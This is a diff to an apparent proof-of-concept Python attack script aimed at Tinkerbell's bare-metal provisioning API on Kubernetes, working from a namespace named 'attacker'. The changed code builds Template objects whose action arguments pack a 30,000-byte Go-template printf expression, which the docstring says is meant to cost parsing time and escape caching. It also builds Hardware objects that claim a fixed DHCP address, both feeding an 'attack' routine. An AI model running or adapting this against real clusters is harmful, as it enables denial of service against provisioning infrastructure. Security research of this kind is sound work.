@@ -24,26 +24,20 @@ API = "apis/tinkerbell.org/v1alpha2/namespaces/attacker"
 BYTES = 30_000
 
 
+def body(kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
+    return {"apiVersion": "tinkerbell.org/v1alpha2", "kind": kind, "metadata": {"name": name}, "spec": spec}
+
+
 def template(name: str) -> dict[str, Any]:
     """Return a Template of which every byte costs parsing time, and that is in no cache."""
     numbers = " 1" * (BYTES // 2)
     action = {"name": "a", "image": "i", "args": [f'{{{{printf "{name}"{numbers}}}}}']}
-    return {
-        "apiVersion": "tinkerbell.org/v1alpha2",
-        "kind": "Template",
-        "metadata": {"name": name},
-        "spec": {"actions": [action]},
-    }
+    return body("Template", name, {"actions": [action]})
 
 
 def claim(name: str, mac: str) -> dict[str, Any]:
     dhcp = {"ip": "172.31.77.77", "netmask": "255.255.255.0"}
-    return {
-        "apiVersion": "tinkerbell.org/v1alpha2",
-        "kind": "Hardware",
-        "metadata": {"name": name},
-        "spec": {"networkInterfaces": {mac: {"dhcp": dhcp}}},
-    }
+    return body("Hardware", name, {"networkInterfaces": {mac: {"dhcp": dhcp}}})
 
 
 async def attack(kubeconfig: Path, connections: int, mac: str) -> None:
